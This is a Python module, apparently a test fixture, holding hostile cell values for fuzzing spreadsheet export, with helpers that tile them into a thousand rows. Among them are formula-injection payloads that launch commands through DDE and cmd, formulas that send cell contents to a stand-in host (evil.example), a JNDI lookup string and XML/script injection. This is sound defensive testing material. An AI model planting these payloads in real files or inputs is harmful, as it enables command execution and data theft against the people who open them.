"""Words that people send to see what happens: to a spreadsheet, to a shell, to a reader."""

from typing import Final

CELLS: Final = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"1")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    "''",
    '"=1+1"',
    "a;=1+1",
    "a,=1+1",
    'a",=1+1',
    'a;"=1+1',
    "a;\u00a0=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\n- b,' c",
    "{=1+1}",
    "[1]Sheet1!A1",
    "http://evil.example",
    "https://evil.example/" + "a" * 2_100,
    "mailto:nobody@evil.example",
    "internal:'Sheet'!A1",
    "external:c:\\temp.xlsx",
    "file:///etc/passwd",
    "<script>alert(1)</script>",
    "</t></is></c><c><f>1+1</f></c>",
    "]]>",
    "&lt;f&gt;1+1&lt;/f&gt;",
    "_x003D_1+1",
    "\x01\x02\x1f",
    "\ufffe\uffff",
    "\u202e1+1=",
    "%0A=1+1",
    "1e309",
    "007",
    "-5",
    "TRUE",
    "#REF!",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "🙂" * 10,
    "e\u0301té",
)


def hostile(number: int) -> str:
    """Return one of them, each time with another end so that no two cells are alike."""
    return f"{CELLS[number % len(CELLS)]} {number}"


def ten_thousand() -> list[tuple[str, ...]]:
    """Return a thousand rows of ten hostile cells."""
    return [tuple(hostile(row * 10 + column) for column in range(10)) for row in range(1_000)]


def as_in_xml(text: str) -> str:
    """Return what a spreadsheet can hold of it: two code points cannot stand in XML."""
    return text.replace("\ufffe", "\ufffd").replace("\uffff", "\ufffd")
